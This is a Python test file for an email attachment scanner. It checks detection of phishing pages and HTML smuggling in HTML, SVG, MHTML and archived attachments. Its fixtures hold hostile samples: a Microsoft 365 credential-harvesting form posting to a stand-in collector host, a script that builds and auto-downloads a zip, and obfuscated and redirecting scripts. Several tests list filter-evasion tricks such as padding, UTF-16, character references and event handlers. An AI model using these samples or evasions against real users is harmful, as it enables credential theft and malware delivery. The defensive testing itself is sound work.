"""Web pages and SVG images mailed as attachments: login forms and file smuggling."""

from __future__ import annotations

import gzip
import quopri

import pytest

from portcullis.antivirus.archives import Problem, inventory
from portcullis.mime import parse_message
from tests.support.attachments import (
    arj_archive,
    cpio_archive,
    iso_image,
    lzh_archive,
    mail,
    seven_zip,
    tar_of,
    zip_of,
)

pytestmark = pytest.mark.antivirus

LOGIN_PAGE = (b"<!DOCTYPE html><html><head><title>Microsoft 365</title></head><body>"
              b"<form method=post action='https://collect.example.net/p.php'>"
              b"<input type=email name=u><input name=p TYPE = 'Password'>"
              b"<button>Sign in to view the invoice</button></form></body></html>")
SMUGGLING_PAGE = (b"<html><body><script>var d=atob('UEsDBA==');var b=new Blob([d]);"
                  b"var a=document.createElement('a');a.href=URL.createObjectURL(b);"
                  b"a.download='Invoice.zip';a.click();</script></body></html>")
SCRIPTED_SVG = (b"<?xml version='1.0'?>\n<!-- exported -->\n<svg xmlns='http://www.w3.org/"
                b"2000/svg'><script>window.location='https://x.example.net/'+location.hash"
                b"</script></svg>")
HIDDEN_FORM = (b"<html><head><script>document.write(unescape('%3C%66%6F%72%6D%20%61%63%74"
               b"%69%6F%6E%3D%22%68%74%74%70%73%3A%2F%2F'));</script></head></html>")
EVAL_ATOB = b"<script type='text/javascript'>eval(atob('ZG9jdW1lbnQud3JpdGUoKQ=='))</script>"
REDIRECT_SCRIPT = (b"<html><body>Loading your document...<script>window.location.href = "
                   b"'https://kit.example.net/o365/?e=bob@example.com'</script></body></html>")
REDIRECT_META = (b"<html><head><meta http-equiv='refresh' content='0; URL=https://kit.example"
                 b".net/'></head></html>")
RECEIPT = (b"<html><head><meta http-equiv='refresh' content='30'><script>"
           b"document.getElementById('t').innerHTML = total.toFixed(2);"
           b"if (location.hash) location.hash = '#top';</script></head>"
           b"<body><a href='https://shop.example.com/'>Shop</a></body></html>")
NEWSLETTER = (b"<html><body><h1>News</h1><svg width=10 height=10><circle r=4/></svg>"
              b"<script>console.log('analytics')</script><a href=x>Read more</a>"
              b"</body></html>")


def findings(name: str, data: bytes) -> list[tuple[str, str]]:
    found = inventory(parse_message(mail("x", attachments=[(name, data)])))
    return [(f.shown, f.detail) for f in found.problems(Problem.ACTIVE)]


@pytest.mark.parametrize(("name", "data", "detail"), [
    ("Invoice.html", LOGIN_PAGE, "a form asking for a password"),
    ("Invoice.pdf", LOGIN_PAGE, "a form asking for a password"),      # by its first bytes
    ("Scan.htm", SMUGGLING_PAGE, "a script that builds a file to download (HTML smuggling)"),
    ("voicemail.svg", SCRIPTED_SVG, "a script in an SVG image"),
    ("voicemail.png", SCRIPTED_SVG, "a script in an SVG image"),
    ("Remittance.html", HIDDEN_FORM,
     "a script that writes the page from encoded text (a hidden form)"),
    ("Fax.htm", EVAL_ATOB, "a script that writes the page from encoded text (a hidden form)"),
    ("Document.html", REDIRECT_SCRIPT, "a page that sends the reader to a web site at once"),
    ("Document.shtml", REDIRECT_META, "a page that sends the reader to a web site at once"),
])
def test_pages_that_phish_or_smuggle_are_found_whatever_they_are_called(name, data, detail):
    assert findings(name, data) == [(name, detail)]


def test_an_ordinary_page_with_pictures_and_scripts_is_not_active_content():
    assert findings("newsletter.html", NEWSLETTER) == []
    # A receipt that refreshes itself, fills in a total and jumps to an anchor.
    assert findings("receipt.html", RECEIPT) == []
    assert findings("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>") == []
    # A page's text about passwords is not a password field.
    assert findings("help.html", b"<html><p>Never type your password into a form"
                                 b" that came by mail.</p></html>") == []


def test_pages_inside_archives_are_looked_at_too():
    assert findings("docs.zip", zip_of({"Invoice.html": LOGIN_PAGE})) == [
        ("docs.zip > Invoice.html", "a form asking for a password")]
    assert findings("docs.7z", seven_zip({"view/Invoice.htm": SMUGGLING_PAGE})) == [
        ("docs.7z > Invoice.htm", "a script that builds a file to download (HTML smuggling)")]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be"])
def test_a_page_written_in_utf_16_is_read_as_browsers_read_it(codec):
    """The marks were looked for in the bytes as they are: a login page saved as UTF-16
    (a byte order mark first, as browsers and Notepad write it) hid its form."""
    page = ("\ufeff" if codec == "utf-16-be" else "") + LOGIN_PAGE.decode()
    found = inventory(parse_message(mail("x", attachments=[("Invoice.html",
                                                            page.encode(codec))])))
    assert [f.detail for f in found.problems(Problem.ACTIVE)] == [
        "a form asking for a password"]


@pytest.mark.parametrize("name", ["Invoice.html.", "Invoice.HTM ", "Invoice.ht\u200bml",
                                  "Invoice.html:stream"])
def test_a_page_is_known_by_its_name_as_windows_reads_it(name):
    """A page was known by the letters after its name's last dot as they are: a trailing
    dot or blank (which Windows drops) or an invisible character hid a page that does not
    start with <html> (browsers need no such start)."""
    page = LOGIN_PAGE.removeprefix(b"<!DOCTYPE html><html>")
    found = inventory(parse_message(mail("x", attachments=[(name, page)])))
    assert [f.detail for f in found.problems(Problem.ACTIVE)] == [
        "a form asking for a password"]


def test_a_page_sent_as_an_attachment_without_a_name_is_looked_at():
    """A text part was taken for the body read in the mail program unless it had a
    name: a login page sent as text/html with Content-Disposition: attachment and no
    name passed unjudged, though mail programs list it as an attachment (Outlook
    calls it ATT00001.htm) that opens in the browser."""
    message = (b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
               b"boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee the invoice."
               b"\r\n--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment\r\n\r\n"
               + LOGIN_PAGE + b"\r\n--b--\r\n")
    found = inventory(parse_message(message))
    assert [f.detail for f in found.problems(Problem.ACTIVE)] == [
        "a form asking for a password"]
    # The same page as the message's own body is what the mail program shows: not a file.
    inline = message.replace(b"Content-Disposition: attachment\r\n", b"")
    assert inventory(parse_message(inline)).findings == []


def test_a_page_padded_past_the_first_64_kib_is_still_looked_at():
    """Only a page's first 64 KiB were looked at: 70,000 blanks before the form (which a
    browser does not show) hid it, attached or zipped."""
    page = b"<html>" + b" " * 70_000 + LOGIN_PAGE
    for name, data in (("Invoice.html", page), ("Invoice.zip", zip_of({"Invoice.html": page}))):
        found = inventory(parse_message(mail("x", attachments=[(name, data)])))
        assert [f.detail for f in found.problems(Problem.ACTIVE)] == [
            "a form asking for a password"], name


@pytest.mark.parametrize("archive", [
    ("Invoice.tar", tar_of), ("Invoice.7z", seven_zip),
    ("Invoice.cpio", lambda files: cpio_archive(files, "newc")),
    ("Invoice.lzh", lambda files: lzh_archive(files, level=2)),
    ("Invoice.lzh", lambda files: lzh_archive(files, level=2, method="-lh5-")),
    ("Invoice.arj", arj_archive), ("Invoice.iso", iso_image)])
@pytest.mark.parametrize("name", ["Invoice.html", "Invoice.txt"])
def test_a_padded_page_is_looked_at_as_far_in_every_archive_as_in_a_zip(archive, name):
    """A page in a zip was read to its first MiB (by its name only), in every other
    archive to its first 64 KiB: 70,000 blanks before the form hid it in a tar, 7z,
    cpio, LHA, ARJ or disc image, and in a zip when it was not named .html (a browser
    opens what starts <html> whatever it is called, as is_markup says)."""
    page = b"<html>" + b" " * 70_000 + LOGIN_PAGE
    archive_name, make = archive
    for attached, data in ((archive_name, make({name: page})),
                           ("Invoice.zip", zip_of({name: page}))):
        found = inventory(parse_message(mail("x", attachments=[(attached, data)])))
        assert [f.detail for f in found.problems(Problem.ACTIVE)] == [
            "a form asking for a password"], attached


def web_archive(page: bytes, *, saved_by: str = "Blink") -> bytes:
    """A page saved as a web archive (MHTML), as Chrome ("Blink": its own header second,
    so no mail header run starts the file) or Internet Explorer save one: a MIME
    message whose first part is the page, quoted-printable, then a picture."""
    first = (b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://login.example"
             b".net/\r\nSubject: Sign in\r\n" if saved_by == "Blink" else
             b"From: <Saved by Windows Internet Explorer 8>\r\nSubject: Sign in\r\n"
             b"Date: Tue, 1 Dec 2026 10:00:00 -0000\r\n")
    return (first + b"MIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n"
            b"\ttype=\"text/html\";\r\n\tboundary=\"----=_NextPart_000\"\r\n\r\n"
            b"------=_NextPart_000\r\nContent-Type: text/html; charset=\"utf-8\"\r\n"
            b"Content-Transfer-Encoding: quoted-printable\r\n"
            b"Content-Location: https://login.example.net/\r\n\r\n"
            + quopri.encodestring(page).replace(b"\n", b"\r\n") +
            b"\r\n------=_NextPart_000\r\nContent-Type: image/png\r\n"
            b"Content-Transfer-Encoding: base64\r\nContent-Location: https://login.example"
            b".net/logo.png\r\n\r\niVBORw0KGgo=\r\n------=_NextPart_000--\r\n")


@pytest.mark.parametrize("saved_by", ["Blink", "IE"])
@pytest.mark.parametrize(("page", "detail"), [
    (LOGIN_PAGE, "a form asking for a password"),
    (SMUGGLING_PAGE, "a script that builds a file to download (HTML smuggling)")])
def test_a_web_archive_is_judged_by_the_pages_it_holds(saved_by, page, detail):
    """A .mht or .mhtml file opens in the browser (Edge in IE mode, Word) as the page it
    holds, but it is a MIME message, not markup: its pages, quoted-printable, were never
    looked at, and a login page saved as Invoice.mht passed as a harmless file."""
    archive = web_archive(page, saved_by=saved_by)
    for name in ("Invoice.mht", "Invoice.MHTML"):
        assert findings(name, archive) == [(name, detail)]
    assert findings("docs.zip", zip_of({"Invoice.mht": archive})) == [
        ("docs.zip > Invoice.mht", detail)]


def test_a_web_archive_sent_as_a_message_is_judged_by_its_pages():
    """Sent as message/rfc822 under its .mht name, it is walked into as a message whose
    page is no file of its own; saved and opened, it is a page in the browser."""
    message = (b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
               b"boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee the invoice."
               b"\r\n--b\r\nContent-Type: message/rfc822; name=Invoice.mht\r\n"
               b"Content-Disposition: attachment; filename=Invoice.mht\r\n\r\n"
               + web_archive(LOGIN_PAGE, saved_by="IE") + b"\r\n--b--\r\n")
    found = inventory(parse_message(message))
    assert [(f.shown, f.detail) for f in found.problems(Problem.ACTIVE)] == [
        ("Invoice.mht", "a form asking for a password")]


def test_an_ordinary_web_archive_is_not_active_content():
    assert findings("newsletter.mht", web_archive(NEWSLETTER)) == []
    # A forwarded message is a MIME message too: its HTML body is not a page.
    assert findings("forwarded.eml", web_archive(LOGIN_PAGE, saved_by="IE")) == []


@pytest.mark.parametrize("start", [
    b"X-Generator: kit\r\nX-Id: 1\r\nX-Ref: 2\r\n\r\n",      # taken for a mail message
    b"%PDF-1.4\n",                                          # taken for a PDF
    b"{\\rtf1 x}\n"])                                       # taken for an RTF document
def test_a_page_is_judged_by_its_name_whatever_its_first_bytes_look_like(start):
    """A file named as a page opens in the browser, which shows a few odd lines first
    and then the form; it was judged as a page only when its first bytes told no other
    type, so three header-like lines before a login page hid it."""
    assert findings("Invoice.html", start + LOGIN_PAGE) == [
        ("Invoice.html", "a form asking for a password")]


@pytest.mark.parametrize("name", ["Invoice.xht", "Invoice.svgz"])
def test_the_other_names_browsers_open_as_pages_are_pages(name):
    """Windows opens .xht (XHTML) and .svgz (gzip-compressed SVG) in the browser like
    .xhtml and .svg; a page so named that does not start with <html> or <svg> (a
    comment first, which a browser does not show) was not judged."""
    page = b"<!-- saved -->\n" + LOGIN_PAGE.removeprefix(b"<!DOCTYPE html><html>")
    data = gzip.compress(page) if name.endswith("z") else page
    assert [detail for _, detail in findings(name, data)] == ["a form asking for a password"]


@pytest.mark.parametrize(("page", "detail"), [
    (LOGIN_PAGE.replace(b"TYPE = 'Password'", b"TYPE = '&#112;assword'"),
     "a form asking for a password"),
    (REDIRECT_META.replace(b"http-equiv='refresh'", b"http-equiv='&#82;efresh'"),
     "a page that sends the reader to a web site at once"),
    (REDIRECT_META.replace(b"URL=https://", b"URL=https:&#x2F;&sol;"),
     "a page that sends the reader to a web site at once"),
    # Behind a "<" inside the tag (an attribute's name to a browser).
    (LOGIN_PAGE.replace(b"TYPE = 'Password'", b"< TYPE = '&#112;assword'"),
     "a form asking for a password")])
def test_character_references_in_tags_are_read_as_browsers_read_them(page, detail):
    """Browsers undo character references in attribute values: a password field
    written type="&#112;assword", or a refresh to "https:&#x2F;&#x2F;", hid the page."""
    assert findings("Invoice.html", page) == [("Invoice.html", detail)]
    # Text between tags stays text: a page showing the markup has no field.
    assert findings("help.html", b"<html><p>Never trust &lt;input type=password&gt; "
                                 b"in a page that came by mail.</p></html>") == []


@pytest.mark.parametrize(("name", "page", "detail"), [
    ("Invoice.html", b"<html><body onload=\"window.location='https://kit.example.net/o365'\">"
                     b"Loading...</body></html>",
     "a page that sends the reader to a web site at once"),
    ("voicemail.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"location.href="
                      b"'https://x.example.net/'\"><rect/></svg>", "a script in an SVG image"),
    ("Scan.htm", b"<html><body><img src=x onerror=\"var b=new Blob([atob('UEs=')]);var a="
                 b"document.createElement('a');a.href=URL.createObjectURL(b);a.download="
                 b"'Invoice.zip';a.click()\"></body></html>",
     "a script that builds a file to download (HTML smuggling)"),
    # A "<" inside a tag is one more character of an attribute's name to a browser.
    ("Scan.htm", b"<html><body><img src=x < onerror=\"var b=new Blob([atob('UEs=')]);"
                 b"location.href=URL.createObjectURL(b)\"></body></html>",
     "a script that builds a file to download (HTML smuggling)")])
def test_script_in_an_event_handler_is_script(name, page, detail):
    """A page or image runs script from an event handler (onload, onerror) as from a
    <script> element; only the element was looked for, so a redirect in <body onload>
    or smuggling in <img onerror> passed."""
    assert findings(name, page) == [(name, detail)]
    # A page whose handlers do nothing of the kind is no active content.
    assert findings("menu.html", b"<html><body><a href='#' onclick=\"toggle('m')\">Menu"
                                 b"</a></body></html>") == []


@pytest.mark.parametrize("meta", [
    b"<meta content='0; URL=https://kit.example.net/' http-equiv='refresh'>",   # content first
    b"<meta http-equiv='refresh' content='0;https://kit.example.net/'>",        # no "url="
    b"<meta http-equiv=Refresh content=\"1, url='//kit.example.net/'\">"])
def test_a_refresh_is_found_however_its_attributes_are_written(meta):
    """Browsers take a refresh's attributes in any order, and its address with or
    without "url=": only http-equiv first and "url=" were looked for."""
    assert findings("Document.html", b"<html><head>" + meta + b"</head></html>") == [
        ("Document.html", "a page that sends the reader to a web site at once")]
